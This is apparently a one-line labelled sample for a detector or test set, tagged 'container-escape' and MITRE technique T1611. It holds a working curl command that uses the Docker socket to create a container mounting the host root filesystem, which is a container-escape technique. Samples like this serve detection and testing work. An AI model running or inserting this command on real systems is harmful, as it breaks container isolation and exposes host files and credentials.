# expect: container-escape | source: T1611
curl -s --unix-socket /var/run/docker.sock -H "Content-Type: application/json" -d '{"Image":"alpine","HostConfig":{"Binds":["/:/h"]}}' http://localhost/containers/create
